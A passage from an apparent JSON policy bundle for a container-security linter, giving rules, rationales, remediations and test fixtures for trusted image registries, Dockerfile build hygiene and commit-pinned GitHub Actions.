[registry.example.com, ghcr.io]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.2"},{"framework":"url","url":"https://docs.docker.com/docker-hub/image-library/trusted-content/"}],"params":{"trustedRegistries":["docker.io","ghcr.io","mcr.microsoft.com","gcr.io","registry.k8s.io","public.ecr.aws","cgr.dev","docker.elastic.co","localhost","localhost:5000"]},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: registry.example.net/team/app:1.4.2\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: ghcr.io/example/cache:2.0.0\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":47}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: docker.io/library/nginx:1.27\\n  tool:\\n    image: registry.k8s.io/pause:3.10\\n  local:\\n    image: localhost:5000/app:dev\\n","expect":[]},{"file":"Dockerfile","content":"FROM registry.example.net/base/python:3.12 AS build\\nRUN pip wheel -w /wheels .\\nFROM python:3.12-slim\\nCOPY --from=build /wheels /wheels\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":43}]},{"file":"Dockerfile","content":"ARG REGISTRY\\nFROM ${REGISTRY}/base/python:3.12\\nFROM mcr.microsoft.com/dotnet/aspnet:8.0\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: registry.example.net/ci/node:22\\n    steps:\\n      - uses: docker://registry.example.net/tools/lint:1.0.0\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[{"line":5,"column":5},{"line":7,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n","expect":[]}],"source":"policies/docker/image-untrusted-registry.yaml"}],"source":"policies/docker"},{"id":"dockerfile-hygiene","title":"Dockerfile build hygiene","description":"Docker\'s build best practices and build checks, and the CIS Docker Benchmark\'s image-build items that are about maintainability more than attack surface: package manager use, ADD versus COPY, WORKDIR, CMD and ENTRYPOINT form, deprecated instructions. Findings are low or informational; they make images smaller, reproducible and predictable rather than close a hole.","version":"0.1.0","rules":[{"id":"command-apt-install-recommends","pack":"dockerfile-hygiene","title":"apt installs recommended packages too","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"},"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"schema":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^--no-install-recommends$|Install-Recommends=(false|0)$"}}}}}},"message":"`{{subject.name}} install` without `--no-install-recommends` also pulls in every package the ones you named merely recommend, adding size and attack surface nobody asked for. Add `--no-install-recommends` and name what you need.","rationale":"Debian and Ubuntu install \\"recommended\\" packages by default, which often doubles what an `apt-get install` brings in: documentation, optional helpers, sometimes daemons. Each is more to download, scan and patch. Docker\'s best practices and the CIS Docker Benchmark (4.3, no unnecessary packages) recommend installing only what the image needs.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends python3 ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.3"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y python3 \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends python3 \\\\\\n && apt-get -o APT::Install-Recommends=false install -y git \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-apt-install-recommends.yaml"},{"id":"command-package-install-not-noninteractive","pack":"dockerfile-hygiene","title":"Package install would wait for a confirmation","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","remove","purge"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf"]},"args":{"contains":{"enum":["install","update","upgrade","remove","erase"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"const":"zypper"},"args":{"contains":{"enum":["install","in","update","up","remove","rm"]}}}},"then":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-n|--non-interactive|-y|--no-confirm)$"}}}}}}}],"$defs":{"assumesYes":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-[a-xzA-Z]*y[a-zA-Z]*|--yes|--assume-yes|-qq)$"}}}}}}}},"message":"`{{subject.name}}` is run without `-y`, so it stops to ask for confirmation, which a build cannot give: it aborts (or, with some tools, proceeds differently than expected). Add `-y` (zypper: `-n`).","rationale":"A Docker build has no terminal to answer prompts. Package managers that ask \\"Do you want to continue?\\" read end-of-file and abort the install, or the build only works while nothing new needs confirming and breaks later. Docker\'s best practices use `apt-get install -y`.","remediation":"```dockerfile\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN dnf install -y git && dnf clean all\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM fedora:40\\nRUN dnf install git\\nRUN zypper install curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":20},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get -qy install --no-install-recommends git \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM opensuse/leap:15.6\\nRUN zypper -n install curl\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-install-not-noninteractive.yaml"},{"id":"command-package-version-not-pinned","pack":"dockerfile-hygiene","title":"Package installed without a version","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+-]*$","not":{"enum":["install"]}}}}}}},{"if":{"properties":{"name":{"const":"apk"},"args":{"contains":{"const":"add"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+_-]*$","not":{"enum":["add"]}}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[A-Za-z0-9][A-Za-z0-9._-]*(\\\\[[A-Za-z0-9,._-]+\\\\])?$","not":{"anyOf":[{"enum":["install","pip","setuptools","wheel"]},{"pattern":"\\\\.(txt|in|whl|gz|zip|toml|cfg|py)$"}]}}}}}}},{"if":{"properties":{"name":{"enum":["npm","pnpm"]},"args":{"allOf":[{"contains":{"enum":["install","i","add"]}},{"contains":{"enum":["-g","--global"]}}]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(@[a-z0-9][a-z0-9._~-]*/)?[a-z0-9][a-z0-9._~-]*$","not":{"enum":["install","i","add"]}}}}}}}]},"message":"`{{value}}` is installed without a version, so each build may get a different one, and a rebuild to fix one thing can silently change another. Pin it (`{{value}}=1.2.3` for apt and apk, `{{value}}==1.2.3` for pip, `{{value}}@1.2.3` for npm).","rationale":"An unpinned package resolves to whatever the mirror offers at build time. Builds stop being reproducible, a rebuild for an unrelated change can pull in a new major version or a compromised release, and nobody can tell from the Dockerfile which version an image contains. Docker\'s best practices recommend version pinning; it also lets Dependabot or Renovate propose updates. This is informational: some teams deliberately take the distribution\'s current security release and rely on scanning instead.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl=8.5.0-2ubuntu10.6 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN npm install -g typescript@5.6.3\\n```\\n\\nOr install from a lock file (`pip install -r requirements.txt` with hashes, `npm ci`).","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nRUN apt-get update && apt-get install -y --no-install-recommends git curl=7.88.1-10+deb12u8 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir flask requests==2.32.3\\nRUN npm install -g typescript\\n","expect":[{"line":2,"column":1},{"line":4,"column":1},{"line":5,"column":1}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache git=2.45.2-r0 \\"curl>8\\"\\nRUN pip install --no-cache-dir -r requirements.txt --upgrade pip\\nRUN npm install && npm install -g npm@10.9.0\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-version-not-pinned.yaml"},{"id":"command-run-cd","pack":"dockerfile-hygiene","title":"RUN changes directory with cd (use WORKDIR)","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"name":{"not":{"const":"cd"}}}},"message":"`cd` in a RUN only lasts until the end of that RUN, so the next instruction silently runs somewhere else, and the Dockerfile is harder to follow. Use `WORKDIR /path` to change directory.","rationale":"Each RUN starts in the current WORKDIR; a `cd` changes directory for the rest of that one shell only. Chaining `cd` into long RUN lines hides where files are created and tempts later edits to assume the directory carried over. Docker\'s best practices recommend WORKDIR over `RUN cd \u2026 &&`. Informational: a `cd` into a temporary directory within one RUN is sometimes the clearest way.","remediation":"```dockerfile\\nWORKDIR /src/app\\nRUN make install\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23\\nCOPY . /src\\nRUN cd /src && go build -o /out/app ./cmd/app\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":46}]},{"file":"Dockerfile","content":"FROM golang:1.23\\nWORKDIR /src\\nCOPY . .\\nRUN go build -o /out/app ./cmd/app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-run-cd.yaml"},{"id":"command-sudo","pack":"dockerfile-hygiene","title":"sudo used in a Dockerfile RUN","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"sudo":{"const":false},"name":{"not":{"const":"sudo"}}}},"message":"`sudo {{subject.name}}` in a Dockerfile: RUN already runs as the current USER, and sudo in the image gives every process that runs as that user a way to become root. Switch with `USER root` for the steps that need it and back to the unprivileged user afterwards.","rationale":"Build steps run as whatever USER is in effect, so sudo is never needed to build; keeping it in the image means it, and a sudoers entry, are present at run time, where they turn a compromise of the application user into root. sudo also has TTY and signal-forwarding behaviour that makes it unpredictable as PID 1. Docker\'s best practices advise against installing or using sudo in images.","remediation":"```dockerfile\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\nUSER 10001\\n```\\n\\nIf something must switch user at run time, use `gosu` or `setpriv` in the entrypoint.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER ubuntu\\nRUN sudo apt-get update \\\\\\n && sudo -E apt-get install -y --no-install-recommends curl\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24},{"line":4,"column":2}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\nUSER ubuntu\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-sudo.yaml"},{"id":"dockerfile-add-instead-of-copy","pack":"dockerfile-hygiene","title":"ADD used to copy local files (use COPY)","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"not":{"pattern":{"$param":"specialSource"}}}]}}}}}}},"message":"This ADD in stage {{name}} copies local files; use COPY, which does only that, so nobody has to wonder whether a file will be fetched or unpacked. Write `COPY` with the same arguments.","rationale":"ADD does more than copy: it downloads URLs, clones Git repositories and unpacks local tar archives, and which of these happens depends on what the source turns out to be. COPY only copies, so the Dockerfile says exactly what it does. Docker\'s best practices and the CIS Docker Benchmark (4.9) recommend COPY for local files and ADD only for its special cases.","remediation":"```dockerfile\\nCOPY requirements.txt /app/\\nCOPY --chown=10001:10001 src/ /app/src/\\n```\\n\\nKeep ADD for unpacking a local archive (`ADD rootfs.tar.gz /`) or for a remote source with\\n`--checksum`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#add-or-copy"}],"params":{"specialSource":"^(https?://|git@|[a-z]+://)|\\\\.(tar|tar\\\\.gz|tgz|tar\\\\.bz2|tbz2?|tar\\\\.xz|txz|tar\\\\.zst)$"},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nADD requirements.txt /app/\\nADD --chown=10001 src/ /app/src/\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":27},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM scratch\\nADD rootfs.tar.xz /\\nADD --checksum=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef https://example.com/tool.tgz /tmp/\\nCOPY app /app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-add-instead-of-copy.yaml"},{"id":"dockerfile-apt-lists-not-removed","pack":"dockerfile-hygiene","title":"apt package lists left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt"]}},{"contains":{"const":"install"}},{"not":{"contains":{"pattern":"^/var/lib/apt/lists"}}}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"target=/var/(lib|cache)/apt"}}}}}}}}}}},"message":"This RUN in stage {{name}} installs with apt but leaves `/var/lib/apt/lists` in the layer, adding tens of megabytes of stale package index to the image. End the same RUN with `&& rm -rf /var/lib/apt/lists/*`, or use a cache mount.","rationale":"The package lists that `apt-get update` downloads are only needed while installing. Left in the layer, they make the image larger and record an index that is out of date by the time the image runs. Removing them in the same RUN keeps them out of every layer; deleting them in a later RUN does not. Docker\'s best practices show the pattern.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```\\n\\nor, with BuildKit, keep the lists in a cache mount:\\n`RUN --mount=type=cache,target=/var/lib/apt,sharing=locked apt-get update && apt-get install -y curl`.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":70}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN --mount=type=cache,target=/var/lib/apt,sharing=locked \\\\\\n    apt-get update && apt-get install -y --no-install-recommends git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-lists-not-removed.yaml"},{"id":"dockerfile-apt-update-alone","pack":"dockerfile-hygiene","title":"Package index updated in a RUN of its own","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt","apk"]}},{"contains":{"const":"update"}},{"not":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","add"]}}}]}}}}}}},"message":"This RUN in stage {{name}} updates the package index without installing anything, so the layer is cached and later builds install from a stale index (old versions, or 404s). Update and install in one RUN: `RUN apt-get update && apt-get install -y \u2026 && rm -rf /var/lib/apt/lists/*`.","rationale":"Docker caches each instruction\'s layer by its text. A RUN that only runs `apt-get update` is reused as is on every later build, so an `apt-get install` in a following RUN works from whatever index was fetched the first time: it misses security updates or fails on packages the mirror has since removed. Docker\'s best practices and the CIS Docker Benchmark (4.7) ask that update instructions not be used alone.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends ca-certificates curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.7"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update\\nRUN apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM alpine:3.20\\nRUN apk update && apk add git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-update-alone.yaml"},{"id":"dockerfile-maintainer-deprecated","pack":"dockerfile-hygiene","title":"MAINTAINER instruction is deprecated","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"keyword":{"not":{"const":"MAINTAINER"}}}}}}},"message":"MAINTAINER is deprecated and may be removed from Docker. Write the author as a label instead: `LABEL org.opencontainers.image.authors=\\"team@example.com\\"`.","rationale":"The MAINTAINER instruction has been deprecated since Docker 1.13 in favour of labels, which tools read in a standard way (the OCI `org.opencontainers.image.authors` annotation). BuildKit\'s MaintainerDeprecated check reports it.","remediation":"```dockerfile\\nLABEL org.opencontainers.image.authors=\\"platform-team@example.com\\"\\n```","references":[{"framework":"docker-build-check","id":"MaintainerDeprecated"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/maintainer-deprecated/"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nMAINTAINER Jane Doe <jane@example.com>\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":11}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nLABEL org.opencontainers.image.authors=\\"jane@example.com\\"\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-maintainer-deprecated.yaml"},{"id":"dockerfile-multiple-cmd-entrypoint","pack":"dockerfile-hygiene","title":"Stage has more than one CMD, ENTRYPOINT or HEALTHCHECK","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"allOf":[{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"CMD"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"ENTRYPOINT"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"HEALTHCHECK"}}},"minContains":2}}]}}},"message":"Stage {{name}} has more than one CMD, ENTRYPOINT or HEALTHCHECK; only the last of each takes effect, so the earlier ones mislead whoever reads the file. Keep one of each.","rationale":"An image has a single CMD, ENTRYPOINT and HEALTHCHECK; each new one replaces the previous one in the same stage. Leftover instructions usually come from copy-paste or a merge and make a reader believe the container starts differently than it does. BuildKit\'s MultipleInstructionsDisallowed check reports them.","remediation":"```dockerfile\\nENTRYPOINT [\\"/app/server\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```","references":[{"framework":"docker-build-check","id":"MultipleInstructionsDisallowed"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/multiple-instructions-disallowed/"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim AS app\\nCOPY . /app\\nCMD [\\"node\\", \\"/app/server.js\\"]\\nCMD [\\"node\\", \\"/app/worker.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":18}]},{"file":"Dockerfile","content":"FROM node:22-slim AS build\\nCMD [\\"npm\\", \\"test\\"]\\n\\nFROM node:22-slim\\nHEALTHCHECK CMD [\\"node\\", \\"/app/health.js\\"]\\nCMD [\\"node\\", \\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-multiple-cmd-entrypoint.yaml"},{"id":"dockerfile-package-cache-kept","pack":"dockerfile-hygiene","title":"Package manager cache left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"anyOf":[{"allOf":[{"contains":{"const":"apk"}},{"contains":{"const":"add"}},{"not":{"contains":{"const":"--no-cache"}}}]},{"allOf":[{"contains":{"enum":["pip","pip3"]}},{"contains":{"const":"install"}},{"not":{"contains":{"const":"--no-cache-dir"}}}]}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"type=cache"}}}}}}}}}}},"message":"This RUN in stage {{name}} leaves apk\'s or pip\'s download cache in the layer, adding size and nothing else to the image. Add `--no-cache` (apk) or `--no-cache-dir` (pip), or use a BuildKit cache mount.","rationale":"`apk add` keeps the package index under /var/cache/apk and pip keeps every downloaded wheel under ~/.cache/pip unless told not to. In an image these are dead weight (often tens of megabytes) and go stale immediately. Docker\'s best practices recommend keeping caches out of layers, either by not writing them or by using cache mounts, which persist between builds without entering the image.","remediation":"```dockerfile\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\n# or share the cache between builds without putting it in a layer:\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements.txt\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/cache/optimize/#use-cache-mounts"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-alpine\\nRUN apk add git=2.45.2-r0\\nRUN pip install -r requirements.txt\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":26},{"line":3,"column":1}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM python:3.12-alpine\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements-dev.txt\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-package-cache-kept.yaml"},{"id":"dockerfile-shell-form-cmd","pack":"dockerfile-hygiene","title":"CMD or ENTRYPOINT in shell form","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["CMD","ENTRYPOINT"]}}},"then":{"properties":{"form":{"const":"json"}}}}}}},"message":"This CMD or ENTRYPOINT in stage {{name}} uses shell form, so the program runs under `/bin/sh -c` and never receives `docker stop`\'s SIGTERM: it is killed after the timeout instead of shutting down cleanly. Write it as a JSON array, e.g. `CMD [\\"node\\", \\"server.js\\"]`.","rationale":"In shell form Docker runs `/bin/sh -c \\"<command>\\"`, so the shell is PID 1 and the application a child that does not get the signals sent to the container. Graceful shutdown, connection draining and flushing of writes are skipped, and a shell must exist in the image. BuildKit\'s JSONArgsRecommended check and Docker\'s best practices recommend the exec (JSON) form.","remediation":"```dockerfile\\nENTRYPOINT [\\"/usr/local/bin/app\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```\\n\\nIf shell features are needed, use `exec` so the program replaces the shell:\\n`CMD [\\"/bin/sh\\", \\"-c\\", \\"exec node server.js --port \\\\\\"$PORT\\\\\\"\\"]`.","references":[{"framework":"docker-build-check","id":"JSONArgsRecommended"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/json-args-recommended/"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#shell-and-exec-form"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nCMD node /app/server.js\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nENTRYPOINT [\\"node\\"]\\nCMD [\\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-shell-form-cmd.yaml"},{"id":"dockerfile-workdir-relative","pack":"dockerfile-hygiene","title":"WORKDIR is a relative path","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"const":"WORKDIR"}}},"then":{"properties":{"args":{"prefixItems":[{"pattern":"^(/|\\\\$|[A-Za-z]:[\\\\\\\\/])"}]}}}}}}},"message":"`WORKDIR {{value}}` is relative, so where it lands depends on the base image\'s working directory, which can change with an update of that image. Write an absolute path, e.g. `WORKDIR /app`.","rationale":"A relative WORKDIR is resolved against the previous working directory, which for the first one in a stage is whatever the base image set. When the base image changes its WORKDIR, files are copied and commands run somewhere else, with no change in this Dockerfile. BuildKit\'s WorkdirRelativePath check and Docker\'s best practices ask for absolute paths.","remediation":"```dockerfile\\nWORKDIR /app\\n```","references":[{"framework":"docker-build-check","id":"WorkdirRelativePath"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/workdir-relative-path/"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR app\\nCOPY . .\\n","expect":[{"line":2,"column":9,"endLine":2,"endColumn":12}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG APP_HOME=/srv/app\\nWORKDIR /app\\nWORKDIR ${APP_HOME}\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-workdir-relative.yaml"}],"source":"policies/dockerfile-hygiene"},{"id":"workflows","title":"GitHub Actions workflow security","description":"What GitHub\'s security hardening guidance, the OWASP Docker Security Cheat Sheet\'s supply-chain rule and OpenSSF Scorecard ask of GitHub Actions workflows and composite actions: actions and reusable workflows pinned to immutable commits, and the jobs that build and run containers kept from trusting what they should not.","version":"0.1.0","rules":[{"id":"action-not-pinned","pack":"workflows","title":"Action or reusable workflow not pinned to a commit SHA","severity":"medium","subject":"action-ref","when":{"properties":{"isLocal":{"const":false},"isDocker":{"const":false}},"not":{"required":["owner"],"properties":{"owner":{"enum":{"$param":"exemptOwners"}}}}},"schema":{"properties":{"isSha":{"const":true}}},"message":"`{{subject.uses}}` points at a tag or branch, which its owner (or whoever compromises the repository) can move to different code that then runs with this job\'s token and secrets. Pin the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`.","rationale":"A tag such as `v4` or a branch such as `main` is a mutable pointer: the next run fetches whatever commit it points to at that moment, so one compromised or careless upstream release reaches every workflow that uses it, with access to its `GITHUB_TOKEN`, its secrets and the code it builds and publishes (as in the tj-actions/changed-files compromise of 2025). A full commit SHA is the only immutable reference GitHub accepts. GitHub\'s security hardening guide and the OWASP cheat sheet\'s supply-chain rule recommend pinning; OpenSSF Scorecard scores it. Teams that trust GitHub\'s own actions may exempt their owners with the `exemptOwners` parameter, e.g. `[actions, github]`.","remediation":"Replace the tag with the commit it currently resolves to and keep the tag as a comment, so that\\nDependabot or Renovate can propose updates:\\n\\n```yaml\\nsteps:\\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\njobs:\\n  release:\\n    uses: example/shared-workflows/.github/workflows/release.yml@<40-hex sha> # v1.3.0\\n```\\n\\nEnable Dependabot for `package-ecosystem: github-actions` so pinned actions are kept current.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"}],"params":{"exemptOwners":[]},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v4\\n      - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0\\n      - name: Lint\\n        uses: \\"github/super-linter/slim@main\\"\\n      - uses: docker/build-push-action@11bd719\\n      - uses: ./.github/actions/setup\\n      - uses: docker://alpine:3.20\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":34},{"line":9,"column":9},{"line":10,"column":9}]},{"file":".github/workflows/release.yml","content":"on:\\n  push:\\n    tags: [\\"v*\\"]\\njobs:\\n  shared:\\n    uses: example/shared-workflows/.github/workflows/release.yml@v1\\n    secrets: inherit\\n  local:\\n    uses: ./.github/workflows/build.yml\\n  pinned:\\n    uses: example/shared-workflows/.github/workflows/scan.yml@0123456789abcdef0123456789abcdef01234567\\n","expect":[{"line":6,"column":5}]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - uses: ./\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: npm test\\n","expect":[]},{"file":"action.yml","content":"name: Setup\\ndescription: Sets up the toolchain\\nruns:\\n  using: composite\\n  steps:\\n    - uses: actions/cache@v4\\n      with:\\n        path: ~/.npm\\n        key: npm\\n    - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a\\n    - run: npm ci\\n      shell: bash\\n","expect":[{"line":6,"column":7}]}],"source":"policies/workflows/action-not-pinned.yaml"},{"id":"command-docker-daemon-tcp-without-tls","pack":"workflows","title":"Docker daemon reached or exposed over plain TCP in a 